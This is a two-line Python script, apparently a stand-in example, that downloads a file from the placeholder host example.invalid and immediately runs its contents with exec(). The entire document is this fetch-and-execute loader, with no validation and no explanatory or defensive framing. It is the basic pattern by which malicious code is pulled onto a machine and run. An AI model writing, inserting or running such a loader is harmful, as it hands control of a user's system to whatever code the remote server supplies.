import urllib.request

exec(urllib.request.urlopen("http://example.invalid/t.py").read())
